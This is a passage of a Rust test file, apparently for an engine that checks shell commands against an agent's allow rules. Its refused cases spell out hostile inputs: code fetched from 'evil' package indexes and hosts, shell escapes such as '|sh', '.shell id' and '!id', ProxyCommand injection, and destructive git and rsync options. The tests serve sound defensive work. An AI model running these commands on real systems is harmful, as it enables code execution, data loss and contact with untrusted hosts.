//! Operands and late options that do more than their rule says, by families.

use super::*;

/// Checks rules: what each grants, and what it does not grant outside of the shell.
fn families(families: &[(&str, &[&str], &[&str])]) {
    for (rule, granted, refused) in families {
        let policy = allowing(&[&format!("Bash({rule})")]);
        grants(&policy, granted);
        for call in *refused {
            let decided = start(&policy, call);
            assert!(!matches!(decided.location, Location::Outside(_)), "{rule}: {call}: {decided:?}");
        }
    }
}

#[test]
fn a_rule_that_names_more_than_a_subcommand_keeps_what_it_does_not_overwrite() {
    for (subcommand, named, destroying) in [
        ("branch", "topic", &["-f", "--force", "-D x", "-qD x", "-M x", "-C x"][..]),
        ("checkout", "--detach", &["-f", "-qf", "--forc", "-B x", "--orphan x"]),
        ("gc", "--no-prune", &["--prune=now", "--force"]),
        ("mv", "a", &["-f", "--force"]),
        ("replace", "HEAD", &["-d", "--delete", "-f"]),
        ("remote", "set-url origin", &["--delete x", "-d"]),
        ("symbolic-ref", "refs/x", &["-d", "--delete"]),
        ("update-ref", "refs/heads/bot", &["-d", "--stdin"]),
        ("submodule", "deinit a", &["--all", "-f"]),
        ("notes", "append", &["-f", "--force"]),
        ("reset", "HEAD", &["--hard", "--har", "--keep", "--merge"]),
        ("rm", "a", &["-f", "-rf"]),
        ("switch", "main", &["-C x", "--force-create x", "-f", "--discard-changes"]),
        ("tag", "v1", &["-f", "-d x", "--delete x"]),
        ("update-index", "--refresh", &["--force-remove x", "--remove x", "--cacheinfo x"]),
        ("worktree", "add", &["-f x", "--force x", "-B x y"]),
    ] {
        for option in destroying {
            let open = format!("git {subcommand} {option}");
            grants(&allowing(&[&format!("Bash(git {subcommand} *)")]), &[&open]);
            grants(&allowing(&[&format!("Bash({open} *)")]), &[&open]);
            let narrow = format!("git {subcommand} {named}");
            let policy = allowing(&[&format!("Bash({narrow} *)")]);
            grants(&policy, &[&narrow, &format!("{narrow} x -q")]);
            let decided = start(&policy, &format!("{narrow} {option}"));
            assert!(!matches!(decided.location, Location::Outside(_)), "{narrow} {option}: {decided:?}");
        }
    }
    families(&[
        ("git branch -d *", &["git branch -d x"], &["git branch -d x -f", "git branch -D x"]),
        (
            "rsync -a src/ *",
            &["rsync -a src/ dst/ -v"],
            &["rsync -a src/ --log-file=x dst/", "rsync -a src/ --write-batch=x"],
        ),
    ]);
}

#[test]
fn what_a_rule_spells_is_given_once_and_not_taken_back() {
    families(&[
        (
            "patch -p1 -i fix.patch *",
            &["patch -p1 -i fix.patch a"],
            &["patch -p1 -i fix.patch -i x", "patch -p1 -i fix.patch --inp=x"],
        ),
        (
            "kubectl -n staging delete pod *",
            &["kubectl -n staging delete pod x --wait"],
            &[
                "kubectl -n staging delete pod x -n prod",
                "kubectl -n staging delete pod x --namespace=prod",
                "kubectl -n staging delete pod x -A",
            ],
        ),
        (
            "kubectl apply -f a.yaml *",
            &["kubectl apply -f a.yaml -v"],
            &["kubectl apply -f a.yaml -f x", "kubectl apply -f a.yaml --filename=x"],
        ),
        ("git config -f app.conf *", &["git config -f app.conf a.b c"], &["git config -f app.conf --no-file a.b c"]),
        (
            "find notes -maxdepth 1 * -type f -delete",
            &["find notes -maxdepth 1 -name x -type f -delete"],
            &["find notes -maxdepth 1 -maxdepth 9 -type f -delete"],
        ),
        ("systemctl --user restart *", &["systemctl --user restart x"], &["systemctl --user restart x --system"]),
        ("journalctl -u ssh *", &["journalctl -u ssh -n 5"], &["journalctl -u ssh -u cron"]),
        (
            "git checkout-index --prefix=out/ -a *",
            &["git checkout-index --prefix=out/ -a x"],
            &["git checkout-index --prefix=out/ -a --no-prefix x"],
        ),
        (
            "git apply --directory=notes *",
            &["git apply --directory=notes x"],
            &["git apply --directory=notes --directory=src x"],
        ),
        (
            "git merge --no-overwrite-ignore *",
            &["git merge --no-overwrite-ignore x"],
            &["git merge --no-overwrite-ignore x --overwrite-ignore"],
        ),
        (
            "git fetch --no-tags origin *",
            &["git fetch --no-tags origin main"],
            &["git fetch --no-tags origin --tags", "git fetch --no-tags origin -f"],
        ),
        (
            "git stash push --keep-index *",
            &["git stash push --keep-index x"],
            &["git stash push --keep-index --no-keep-index"],
        ),
        (
            "docker run -v /a:/b *",
            &["docker run -v /a:/b x"],
            &["docker run -v /a:/b -v /:/h x", "docker run -v /a:/b --volume=/:/h x"],
        ),
        (
            "docker run --network none *",
            &["docker run --network none x"],
            &["docker run --network none --network host x"],
        ),
        (
            "openssl s_client -connect h:1 *",
            &["openssl s_client -connect h:1 -brief"],
            &["openssl s_client -connect h:1 -connect x:2"],
        ),
        ("git commit -m *", &["git commit -m a -m b", "git commit -m a x"], &["git commit -m a --amend"]),
    ]);
}

#[test]
fn what_a_rule_chooses_has_other_names() {
    families(&[
        (
            "docker compose -p app *",
            &["docker compose -p app up -d"],
            &["docker compose -p app --project-name prod down", "docker compose -p app -p prod down"],
        ),
        (
            "podman --connection a ps *",
            &["podman --connection a ps -q"],
            &["podman --connection a ps -c b", "podman --connection a ps --url=ssh://b"],
        ),
        (
            "journalctl -u app *",
            &["journalctl -u app -n 5"],
            &["journalctl -u app --user-unit=x", "journalctl -u app --unit x"],
        ),
        (
            "git config --local *",
            &["git config --local --get a.b"],
            &[
                "git config --local --global a.b c",
                "git config --local --file=x a.b c",
                "git config --local --system a.b c",
            ],
        ),
        (
            "git pull --rebase=false *",
            &["git pull --rebase=false origin main"],
            &["git pull --rebase=false -r", "git pull --rebase=false --rebase"],
        ),
        ("git stash -k *", &["git stash -k -q"], &["git stash -k --no-keep-index"]),
        (
            "cp --no-preserve=mode *",
            &["cp --no-preserve=mode a b"],
            &["cp --no-preserve=mode -p a b", "cp --no-preserve=mode -a a b"],
        ),
        ("cp -P *", &["cp -P a b", "cp -P -r a b"], &["cp -P -L a b", "cp -P --dereference a b"]),
        (
            "psql -h db *",
            &["psql -h db -c select␣a=1", "psql -h db -v x=1 app", "psql -h db app"],
            &[
                "psql -h db -d app",
                "psql -h db postgresql://other/x",
                "psql -h db postgres://other/x",
                "psql -h db host=other",
                "psql -h db -d ␣host␣=␣other",
                "psql -h db -dhost=other",
                "psql -h db --dbname=host=other",
                "psql -h db -c x service=other",
            ],
        ),
        (
            "docker run --cap-drop ALL *",
            &["docker run --cap-drop ALL --rm x"],
            &["docker run --cap-drop ALL --cap-add ALL x", "docker run --cap-drop ALL --privileged x"],
        ),
        ("docker --context a ps *", &["docker --context a ps -a"], &["docker --context a ps --config d"]),
        ("systemd-run --machine=a *", &["systemd-run --machine=a --wait x"], &["systemd-run --machine=a -M b x"]),
        (
            "gh pr view -R me/repo *",
            &["gh pr view -R me/repo 7 --comments"],
            &["gh pr view -R me/repo https://github.com/evil/x/pull/3"],
        ),
        (
            "pg_dump --host=db app *",
            &["pg_dump --host=db app -t a"],
            &["pg_dump --host=db app --dbname=postgresql://other/x", "pg_dump --host=db app -t a --db host=other"],
        ),
    ]);
}

#[test]
fn a_star_stands_for_no_option_that_brings_code_or_writes_elsewhere() {
    families(&[
        ("perl -ne print *", &["perl -ne print a"], &["perl -ne print -Ilib -V a", "perl -ne print -Mx a"]),
        ("perl -i -pe s/a/b/ *", &["perl -i -pe s/a/b/ a"], &["perl -i -pe s/a/b/ -l0 a"]),
        ("node -e 1 *", &["node -e 1 a"], &["node -e 1 --env-file=x", "node -e 1 -r ./x", "node -e 1 --cpu-prof"]),
        ("ruby -ne print *", &["ruby -ne print a"], &["ruby -ne print -Ilib a"]),
        (
            "gcc -c main.c *",
            &["gcc -c main.c -Wall"],
            &["gcc -c main.c -fmodule-mapper=|sh", "gcc -c main.c -fmodules-ts"],
        ),
        (
            "cargo clippy *",
            &["cargo clippy -q -- -D warnings"],
            &["cargo clippy -- -Clink-arg=x", "cargo clippy -- --emit=link", "cargo clippy -q -- -C linker=x"],
        ),
        (
            "ssh host *",
            &["ssh host ls", "ssh host ls -l -F"],
            &["ssh host -F/dev/null ls", "ssh host -oProxyCommand=x ls"],
        ),
        ("ssh -p 22 host *", &["ssh -p 22 host ls -o"], &["ssh -p 22 host -F x ls", "ssh -p 22 host -J x ls"]),
        (
            "openssl ocsp -issuer c.pem *",
            &["openssl ocsp -issuer c.pem -noverify"],
            &["openssl ocsp -issuer c.pem -reqout x"],
        ),
        ("chmod 644 *", &["chmod 644 a", "chmod 644 -v a"], &["chmod 644 -rwx a", "chmod 644 --reference=x a"]),
        ("chmod *", &["chmod -x a", "chmod --reference=x a"], &[]),
        ("git push origin bot/*", &["git push origin bot/x"], &["git push origin bot/x:main"]),
        ("git fetch origin *", &["git fetch origin main"], &["git fetch origin --force --tags"]),
        ("git read-tree HEAD *", &["git read-tree HEAD"], &["git read-tree HEAD --reset -u"]),
        ("git submodule update --init *", &["git submodule update --init x"], &["git submodule update --init --force"]),
        (
            "rsync -a a/ b/ *",
            &["rsync -a a/ b/ -v"],
            &["rsync -a a/ b/ --delete", "rsync -a a/ b/ --remove-source-files"],
        ),
    ]);
}

#[test]
fn a_star_stands_for_no_other_source_of_code() {
    families(&[
        (
            "podman ps *",
            &["podman ps -a", "podman ps --network x"],
            &[
                "podman ps --runtime x",
                "podman ps --runtime=x",
                "podman ps --conmon=x",
                "podman ps --hooks-dir x",
                "podman ps --module=x",
                "podman ps --network-cmd-path=x",
            ],
        ),
        ("podman run *", &["podman run --runtime x alpine", "podman run --network host alpine"], &[]),
        (
            "php -l *",
            &["php -l a.php"],
            &[
                "php -l -S 127.0.0.1:99 x.php",
                "php -l --server=x",
                "php -l -c dir a.php",
                "php -l -cdir a.php",
                "php -l -z x.so a.php",
                "php -l --zend-extension=x.so a.php",
                "php -l --php-ini x a.php",
            ],
        ),
        ("cargo clippy *", &["cargo clippy -- -D warnings"], &["cargo clippy -- @args", "cargo clippy -q -- @x=y"]),
        (
            "cargo rustc --release *",
            &["cargo rustc --release -- --cap-lints=warn"],
            &["cargo rustc --release -- @args"],
        ),
        (
            "pip install -i https://good/simple *",
            &["pip install -i https://good/simple left -q", "pip install -i https://good/simple left -r x"],
            &[
                "pip install -i https://good/simple --extra-index-url=https://evil",
                "pip install -i https://good/simple --extra-index https://evil",
                "pip install -i https://good/simple -f https://evil",
                "pip install -i https://good/simple -qqqfhttps://evil",
                "pip install -i https://good/simple --find-links=x",
                "pip install -i https://good/simple --trusted-host evil",
            ],
        ),
        ("pip install *", &["pip install left --extra-index-url https://x -f y"], &[]),
        (
            "rsync -a src/ dst/ *",
            &["rsync -a src/ dst/ -v --partial --backup", "rsync -a src/ dst/ --exclude x"],
            &[
                "rsync -a src/ dst/ --write-devices",
                "rsync -a src/ dst/ --temp-dir=x",
                "rsync -a src/ dst/ -vTx",
                "rsync -a src/ dst/ --backup-dir=/x --suffix=y",
                "rsync -a src/ dst/ --password-file=x",
                "rsync -a src/ dst/ --files-from=:x",
                "rsync -a src/ dst/ --server",
                "rsync -a src/ dst/ --partial-dir=x",
                "rsync -a src/ dst/ --link-dest=x",
                "rsync -a src/ dst/ --copy-dest=x",
                "rsync -a src/ dst/ --compare-dest=x",
                "rsync -a src/ dst/ --read-batch=x",
            ],
        ),
        (
            "sqlite3 a.db 'select 1' *",
            &["sqlite3 a.db select␣1 -csv", "sqlite3 a.db select␣1 -column", "sqlite3 a.db select␣1 --csv -header"],
            &["sqlite3 a.db select␣1 -cmd .shell", "sqlite3 a.db select␣1 -c x"],
        ),
    ]);
}

/// The job's shell opens such a file for it (`perl <(echo CODE)`).
#[test]
fn a_star_stands_for_no_open_file_as_a_script() {
    families(&[
        (
            "perl *",
            &["perl report.pl", "perl report.pl /dev/stdin"],
            &["perl /dev/stdin", "perl /dev/fd/63", "perl -w ../../../../dev/stdin", "perl /proc/self/fd/0"],
        ),
        (
            "perl -w scripts/*",
            &["perl -w scripts/a.pl", "perl -w scripts/a.pl /dev/stdin"],
            &["perl -w scripts/../../../../../../../dev/stdin"],
        ),
        ("perl scripts/* x", &["perl scripts/a.pl x"], &["perl scripts/../../../../../../../dev/fd/0 x"]),
        ("tclsh *", &["tclsh a.tcl"], &["tclsh /dev/stdin", "tclsh /dev/fd/63 x"]),
        ("python3 -u *", &["python3 -u a.py"], &["python3 -u /proc/thread-self/fd/63"]),
        ("node *", &["node a.js"], &["node /dev/stdin"]),
        ("perl /dev/stdin *", &["perl /dev/stdin x"], &[]),
    ]);
    let policy = allowing(&["Bash(perl *)", "Read(//**)"]);
    assert!(start_in(&policy, "perl /home/u/x.pl", "/opt", &[]).is_allowed());
    for (call, folder) in [("perl stdin", "/dev"), ("perl fd/0", "/dev"), ("perl 0", "/proc/self/fd")] {
        let decided = start_in(&policy, call, folder, &[]);
        assert!(!decided.is_allowed(), "{call} in {folder}: {decided:?}");
    }
}

#[test]
fn a_star_stands_for_no_address_of_openssl() {
    families(&[
        (
            "openssl x509 -noout -in *",
            &["openssl x509 -noout -in c.pem -subject", "openssl x509 -noout -in c.pem -inform DER -nameopt RFC2253"],
            &[
                "openssl x509 -noout -in http://evil/x",
                "openssl x509 -noout -in HTTP://evil/x",
                "openssl x509 -noout -in=http://evil/x",
                "openssl x509 -noout -in c.pem --in=http://evil/x",
                "openssl x509 -noout -in c.pem -CA http://evil/x",
                "openssl x509 -noout -in c.pem -CAkey https://evil/x",
            ],
        ),
        ("openssl crl *", &["openssl crl -in c.pem -text"], &["openssl crl -in http://evil/x"]),
        (
            "openssl verify *",
            &["openssl verify c.pem", "openssl verify -CAfile ca.pem -crl_check c.pem"],
            &["openssl verify -crl_download -crl_check c.pem", "openssl verify -CRLfile http://evil/x c.pem"],
        ),
        (
            "openssl ocsp -url http://good/ -issuer c.pem -cert c.pem *",
            &["openssl ocsp -url http://good/ -issuer c.pem -cert c.pem -text"],
            &[
                "openssl ocsp -url http://good/ -issuer c.pem -cert c.pem -host 127.0.0.1:99",
                "openssl ocsp -url http://good/ -issuer c.pem -cert c.pem -url http://evil/",
                "openssl ocsp -url http://good/ -issuer c.pem -cert c.pem -path /x",
                "openssl ocsp -url http://good/ -issuer c.pem -cert c.pem -port 99",
                "openssl ocsp -url http://good/ -issuer c.pem -cert c.pem -issuer http://evil/x",
            ],
        ),
        (
            "openssl ocsp -issuer c.pem *",
            &["openssl ocsp -issuer c.pem -cert d.pem -respin x"],
            &["openssl ocsp -issuer c.pem -url http://evil/", "openssl ocsp -issuer c.pem -host evil:80"],
        ),
        (
            "openssl s_client -brief *",
            &["openssl s_client -brief -servername a"],
            &[
                "openssl s_client -brief -connect evil:443",
                "openssl s_client -brief --connect=evil:443",
                "openssl s_client -brief evil:443",
                "openssl s_client -brief -4 evil:https",
            ],
        ),
        (
            "openssl s_client -connect good:443 *",
            &["openssl s_client -connect good:443 -servername good -showcerts"],
            &["openssl s_client -connect good:443 -proxy evil:80", "openssl s_client -connect good:443 -unix /x"],
        ),
        ("openssl s_client -connect *", &["openssl s_client -connect good:443 -brief"], &[]),
        ("openssl x509 -in http://good/*", &["openssl x509 -in http://good/c.pem -noout"], &[]),
        ("openssl req *", &["openssl req -newkey rsa:2048 -noout -subj /CN=a"], &[]),
    ]);
}

/// A rule that names a remote grants no other one.
#[test]
fn a_star_stands_for_no_other_remote() {
    for (rule, more) in [
        ("fetch origin", &["--multiple upstream", "--mult upstream", "-m upstream", "-qm upstream"][..]),
        (
            "fetch origin",
            &["--recurse-submodules", "--recurse-submodules=yes", "--recurse", "--recurse-submodules-d=yes"],
        ),
        ("pull origin", &["--recurse-submodules", "--recurse-sub=on-demand", "main --recurse-submodules"]),
        ("push origin", &["--recurse-submodules=on-demand", "--recurse=only x", "x --recurse-submodules on-demand"]),
        ("clone https://h/a.git", &["--recurse-submodules", "--recursive", "x --recurse-sub"]),
    ] {
        let head = format!("git {rule}");
        let calls: Vec<String> = more.iter().map(|more| format!("{head} {more}")).collect();
        let calls: Vec<&str> = calls.iter().map(String::as_str).collect();
        let policy = allowing(&[&format!("Bash({head} *)")]);
        grants(&policy, &[&head, &format!("{head} -q"), &format!("{head} --no-recurse-submodules")]);
        denies(&policy, &calls);
        let subcommand = rule.split(' ').next().unwrap();
        grants(&allowing(&[&format!("Bash(git {subcommand} *)")]), &calls);
    }
    denies(&allowing(&["Bash(git push origin bot/*)"]), &["git push origin bot/x --recurse-submodules=on-demand"]);
}

/// Another server gets the password of the environment, and another database the statement of the rule.
#[test]
fn a_star_stands_for_no_other_database_or_server() {
    let elsewhere = [
        "-h evil",
        "-hevil",
        "-Xhevil",
        "-qh evil",
        "--host=evil",
        "--ho evil",
        "-p 99",
        "-p99",
        "-Xp99",
        "--port=99",
        "-U bob",
        "-XUbob",
        "--username=bob",
        "-d prod",
        "-dprod",
        "-Xdprod",
        "--dbname=prod",
        "-Xdpostgresql://u@evil/x",
        "-wdpostgresql://u@evil/x",
        "-qd host=evil",
        "-Xdhostaddr=127.0.0.1",
        "-d service=x",
        "postgresql://evil/x",
        "postgres://evil/x",
        "host=evil",
        "port=5433␣hostaddr␣=␣1.2.3.4",
        "dbname=postgres",
    ];
    let calls = |head: &str, more: &[&str]| more.iter().map(|more| format!("{head} {more}")).collect::<Vec<_>>();
    let refuses = |head: &str, more: &[&str]| {
        let calls = calls(head, more);
        let policy = allowing(&[&format!("Bash({head} *)").replace('␣', " ")]);
        grants(&policy, &[head]);
        denies(&policy, &calls.iter().map(String::as_str).collect::<Vec<_>>());
    };
    for head in ["psql app -c select", "psql -h good app -c select", "psql -h good", "psql app", "psql -c select"] {
        refuses(head, &elsewhere);
    }
    for head in ["pg_dump -h good", "pg_dump app", "pg_restore x.dump", "vacuumdb app", "pg_dumpall -h good"] {
        refuses(head, &elsewhere);
    }
    let of_mysql = [
        "-h evil",
        "-hevil",
        "-Bhevil",
        "--host=evil",
        "--loose-host=evil",
        "--loose_host=evil",
        "-P99",
        "-P 99",
        "--port=99",
        "-S/x",
        "--socket=/x",
        "--protocol=SOCKET",
        "-u root",
        "-uroot",
        "--user=root",
        "--defaults-file=x",
        "--defaults_extra_file=x",
        "--login-path=x",
        "--plugin_dir=x",
    ];
    let databases =
        ["-D prod", "-Dprod", "-BDprod", "--database=prod", "--load-data-local-dir=/", "--load_data_local_dir=/"];
    for head in ["mysql app -e select", "mysql -h db1 app -e select", "mariadb app", "mysql -h db1"] {
        refuses(head, &of_mysql);
        refuses(head, &databases);
    }
    for head in ["mysqldump app", "mysqldump -h good app", "mariadb-dump app", "mysqladmin status"] {
        refuses(head, &of_mysql);
    }
    // A rule that names nothing grants every place, and one that spells an option grants its value.
    for (program, more) in [("psql", &elsewhere[..]), ("pg_dump", &elsewhere), ("mysql", &of_mysql)] {
        let calls = calls(program, more);
        grants(&allowing(&[&format!("Bash({program} *)")]), &calls.iter().map(String::as_str).collect::<Vec<_>>());
    }
    families(&[
        (
            "psql -h good app -c *",
            &["psql -h good app -c select␣1", "psql -h good app -c select␣1 -At", "psql -h good app -c x -F ;"],
            &["psql -h good app -c x -h evil"],
        ),
        ("psql -h * app", &["psql -h good app"], &["psql -h good -d x app"]),
        ("psql postgresql://good/*", &["psql postgresql://good/app"], &["psql postgresql://good/app -h x"]),
        ("mysql app -e *", &["mysql app -e select -pSecret", "mysql app -e select -Bt"], &[]),
        ("pg_dump app *", &["pg_dump app -t users -Fc -f x.dump", "pg_dump app --schema-only"], &[]),
    ]);
}

#[test]
fn a_rule_that_spells_a_statement_grants_no_other() {
    families(&[
        ("psql -h db *", &["psql -h db -c select␣1 -o x", "psql -h db app -f x.sql"], &[]),
        ("psql app *", &["psql app -c select␣1"], &["psql app -U bob"]),
        (
            "psql -h db -d app -c 'select 1' *",
            &["psql -h db -d app -c select␣1 -At", "psql -h db -d app -c select␣1 -q"],
            &[
                "psql -h db -d app -c select␣1 -f x.sql",
                "psql -h db -d app -c select␣1 -fx.sql",
                "psql -h db -d app -c select␣1 --fil=x.sql",
                "psql -h db -d app -c select␣1 -Atc drop",
                "psql -h db -d app -c select␣1 -o |id",
                "psql -h db -d app -c select␣1 -v x=1",
            ],
        ),
        (
            "psql app -f q.sql *",
            &["psql app -f q.sql -q"],
            &["psql app -f q.sql -c drop", "psql app -f q.sql --comm=drop"],
        ),
        ("psql -Atc 'select 1' *", &["psql -Atc select␣1 app"], &["psql -Atc select␣1 -f x"]),
        ("sqlite3 a.db *", &["sqlite3 a.db select␣1", "sqlite3 a.db -cmd .mode␣csv select␣1 select␣2"], &[]),
        ("sqlite3 -separator , a.db *", &["sqlite3 -separator , a.db select␣1"], &[]),
        (
            "sqlite3 a.db 'select 1' *",
            &["sqlite3 a.db select␣1 -header", "sqlite3 a.db select␣1 -separator ;"],
            &[
                "sqlite3 a.db select␣1 drop␣table␣t",
                "sqlite3 a.db select␣1 .shell␣id",
                "sqlite3 a.db select␣1 -cmd .shell␣id",
                "sqlite3 a.db select␣1 --cmd .shell␣id",
                "sqlite3 a.db select␣1 -init x.sql",
                "sqlite3 a.db select␣1 -Ax",
            ],
        ),
        ("sqlite3 -init q.sql a.db *", &["sqlite3 -init q.sql a.db -header"], &["sqlite3 -init q.sql a.db -cmd x"]),
        (
            "vim -es -c wq *",
            &["vim -es -c wq x"],
            &["vim -es -c wq --cmd !id", "vim -es -c wq +!id", "vim -es -c wq -S x", "vim -es -c wq -u x y"],
        ),
        ("vim *", &["vim -c wq +1 x"], &[]),
        ("emacs --batch -l a.el *", &["emacs --batch -l a.el x"], &["emacs --batch -l a.el --eval x"]),
        (
            "mysql -e 'select 1' *",
            &["mysql -e select␣1 -N app"],
            &["mysql -e select␣1 --init-command=x", "mysql -e select␣1 --defaults-file=x", "mysql -e select␣1 --tee=x"],
        ),
        ("script -qc 'git log' *", &["script -qc git␣log x"], &["script -qc git␣log --command rm"]),
    ]);
}

#[test]
fn a_star_stands_for_no_refspec_that_changes_branches() {
    let many = ["git fetch *", "git pull *", "git fetch-pack *"];
    for rule in many {
        let command = rule.trim_end_matches(" *");
        let call = |rest: &str| format!("{command} {rest}");
        let granted = ["", "origin", "origin main", "--prune origin", "git@h:x.git main", "--depth 5 https://h/x main"];
        let refused = [
            ". +refs/none/*:refs/heads/*",
            ". --prune +refs/none/*:refs/heads/*",
            "origin main:main",
            "-q -- origin x:refs/tags/y",
            "--depth -- . x:y",
            ". -- -j x:y",
            "origin --refmap=+refs/*:refs/*",
            "origin --refm x",
            "--stdin .",
            "--prune-tags ./empty",
            "-qP ./empty",
            "--upload-pack=x .",
        ];
        let policy = allowing(&[&format!("Bash({rule})")]);
        grants(&policy, &granted.map(|rest| call(rest).trim().to_owned()).each_ref().map(String::as_str));
        denies(&policy, &refused.map(call).each_ref().map(String::as_str));
    }
    families(&[
        (
            "git push *",
            &["git push", "git push -u origin main", "git push origin HEAD:main"],
            &[
                "git push -f origin x",
                "git push --force-with-lease origin x",
                "git push origin --force-with-lease=x x",
                "git push origin +x",
                "git push origin :x",
                "git push --delete origin x",
                "git push -d origin x",
                "git push --mirror x",
                "git push --prune origin refs/heads/*",
                "git push . +refs/none/*:refs/heads/*",
            ],
        ),
        ("git push -f *", &["git push -f origin x"], &["git push -f --mirror origin", "git push -f origin :x"]),
        ("git fetch origin main:main *", &["git fetch origin main:main -q"], &["git fetch origin main:main x:y"]),
        (
            "git remote show *",
            &["git remote show", "git remote show origin -n"],
            &["git remote show http://h/x", "git remote show ext::x", "git remote show h:x", "git remote show ./x"],
        ),
        ("git remote update *", &["git remote update --prune origin"], &["git remote update https://h/x"]),
        (
            "git remote add *",
            &["git remote add o https://h/x"],
            &["git remote add --mirror=fetch o ./empty", "git remote add -f --mirr=fetch o x"],
        ),
        (
            "git reflog *",
            &["git reflog", "git reflog show -5 main"],
            &["git reflog expire --all", "git reflog -q delete x", "git reflog drop x"],
        ),
        ("git reflog expire *", &["git reflog expire --all"], &["git reflog delete x"]),
        (
            "git checkout -b *",
            &["git checkout -b x", "git checkout -b x origin/x -q --track"],
            &["git checkout -b x -f", "git checkout -b x --force HEAD~9", "git checkout -b x --no-b -- f"],
        ),
        ("git switch -c *", &["git switch -c x"], &["git switch -c x -f", "git switch -c x --discard-changes"]),
    ]);
    assert_eq!(writes(&allowing(&["Bash(git reflog *)"]), "git reflog"), Writes::Nothing);
    assert_eq!(writes(&allowing(&["Bash(git reflog expire *)"]), "git reflog expire --all"), Writes::Work);
}

fn writes(policy: &Policy, call: &str) -> Writes {
    match start(policy, call).location {
        Location::Outside(rights) => rights.writes,
        location => panic!("{call}: {location:?}"),
    }
}

/// The kernel holds them, so no command of theirs writes.
#[test]
fn a_database_and_a_key_that_are_only_read_are_not_written() {
    for (rule, call) in [
        ("sqlite3 -readonly -safe a.db *", "sqlite3 -readonly -safe a.db .trace␣x"),
        ("sqlite3 --readonly --safe a.db *", "sqlite3 --readonly --safe a.db .trace␣x"),
        ("ssh-keygen -l *", "ssh-keygen -l -f x"),
        ("ssh-keygen -lf *", "ssh-keygen -lf x"),
    ] {
        let Location::Outside(rights) = start(&allowing(&[&format!("Bash({rule})")]), call).location else {
            panic!("{rule}")
        };
        assert!(rights.only_reads() && rights.executes == Executes::Itself(&[]), "{rule}: {rights:?}");
    }
    denies(&allowing(&["Bash(sqlite3 --readonly a.db *)"]), &["sqlite3 --readonly a.db .shell␣id"]);
    denies(&allowing(&["Bash(sqlite3 --readonly --safe a.db *)"]), &["sqlite3 --readonly --safe a.db -cmd x"]);
}

/// The words behind a program that starts others are judged as that command.
#[test]
fn a_command_behind_another_program_is_judged_as_itself() {
    for outer in [
        "watch -n 1",
        "ssh host",
        "ssh -p 22 host sudo",
        "docker exec c",
        "docker exec -u cat cat",
        "kubectl exec pod --",
        "flock l",
        "sudo",
        "strace -f",
        "taskset 1",
        "unshare -r timeout 5",
        "systemd-run",
        "busybox",
        "chroot .",
        "podman run --rm x",
        "exec",
    ] {
        for (rule, granted, refused) in [
            ("find d -name *", &["find d -name x", "find d -name x -type f"][..], &["-delete", "-fprint f"][..]),
            ("sort f *", &["sort f -u"], &["-o g", "--compress-program=x"]),
            ("sed -i s/a/b/ *", &["sed -i s/a/b/ f"], &["-n f", "-e p f", "-f g f"]),
            ("git log *", &["git log -3"], &["--output=x"]),
            ("git push --dry-run *", &["git push --dry-run origin"], &["--no-dry-run origin"]),
            ("git status *", &["git status -s"], &[]),
            ("make check *", &["make check -s"], &["-C x", "deploy", "-f x"]),
            ("curl https://h/*", &["curl https://h/x"], &["-o f", "https://evil/"]),
            ("cat *", &["cat f"], &[]),
        ] {
            let policy = allowing(&[&format!("Bash({outer} {rule})")]);
            grants(
                &policy,
                &granted
                    .iter()
                    .map(|call| format!("{outer} {call}"))
                    .collect::<Vec<_>>()
                    .iter()
                    .map(String::as_str)
                    .collect::<Vec<_>>(),
            );
            for more in refused {
                let call = format!("{outer} {} {more}", granted[0]);
                denies(&policy, &[&call]);
            }
        }
    }
    families(&[
        ("ssh host 'find d -name' *", &["ssh host find␣d␣-name x"], &["ssh host find␣d␣-name x -delete"]),
        ("docker exec * find d *", &["docker exec c find d -type f"], &[]),
        ("docker ps *", &["docker ps -a --format x"], &[]),
        ("ssh host *", &["ssh host find d -delete"], &[]),
    ]);
    let wide = BOT.covers(
        &ToolPattern::parse("Bash(watch find d *)").unwrap(),
        &ToolPattern::parse("Bash(watch find d -delete)").unwrap(),
    );
    assert!(!wide);
    assert!(BOT.covers(
        &ToolPattern::parse("Bash(watch find d *)").unwrap(),
        &ToolPattern::parse("Bash(watch find d -type f *)").unwrap()
    ));
}

#[test]
fn late_options_change_no_script_and_load_no_code() {
    families(&[
        (
            "sed -i s/a/b/ *",
            &["sed -i s/a/b/ f", "sed -i s/a/b/ -s f"],
            &[
                "sed -i s/a/b/ -n f",
                "sed -i s/a/b/ --quiet f",
                "sed -i s/a/b/ --zero-terminated f",
                "sed -i s/a/b/ --zero f",
                "sed -i s/a/b/ f --sil",
                "sed -i s/a/b/ -z f",
                "sed -i s/a/b/ -E f",
            ],
        ),
        ("sed -i *", &["sed -i -n p f"], &[]),
        (
            "jq .name *",
            &["jq .name f", "jq .name -r f"],
            &["jq .name -f p", "jq .name -rf p", "jq .name --from-file p", "jq .name -L d f"],
        ),
        (
            "make release *",
            &["make release -s V=1"],
            &[
                "make release -k",
                "make release -j2",
                "make release -sj 2",
                "make release --jobs=2",
                "make release --keep-going",
                "make -j4 release",
            ],
        ),
        ("make -j4 release *", &["make -j4 release"], &["make -j4 release -k"]),
        (
            "make check *",
            &["make check -j4 -k", "make -j4 check", "make -j 4 -k check V=1", "make --silent check"],
            &["make -j deploy check", "make -f x check", "make -C x check", "make -j4 deploy"],
        ),
        ("make test-unit *", &["make test-unit -j2"], &[]),
        (
            "gcc -c main.c *",
            &["gcc -c main.c -O2 -Wall -o main.o -I include"],
            &[
                "gcc -c main.c -wrapper id",
                "gcc -c main.c -Bx",
                "gcc -c main.c -fplugin=x.so",
                "gcc -c main.c --specs=x",
                "gcc -c main.c -specs x",
                "gcc -c main.c @args",
                "gcc -c main.c -Wl,-plugin,x",
                "gcc -c main.c -Xlinker x",
            ],
        ),
        ("gcc-12 -c main.c *", &["gcc-12 -c main.c -g"], &["gcc-12 -c main.c -wrapper id"]),
        ("gcc *", &["gcc -wrapper x a.c"], &[]),
        (
            "kubectl get pods *",
            &["kubectl get pods -o wide -n x -l a=b"],
            &[
                "kubectl get pods --kubeconfig=x",
                "kubectl get pods --kubeconfig x",
                "kubectl get pods -s https://h",
                "kubectl get pods --server=x",
                "kubectl get pods --as x",
                "kubectl get pods --token=x",
            ],
        ),
        (
            "openssl x509 *",
            &["openssl x509 -in a.pem -noout -text"],
            &["openssl x509 -engine x", "openssl x509 -provider-path .", "openssl x509 --provider x"],
        ),
        (
            "ssh-keygen -l *",
            &["ssh-keygen -l -f x", "ssh-keygen -l -E md5 -f x"],
            &["ssh-keygen -l -D ./x.so", "ssh-keygen -l -vD./x.so"],
        ),
        (
            "rsync -a notes/ host:in/ *",
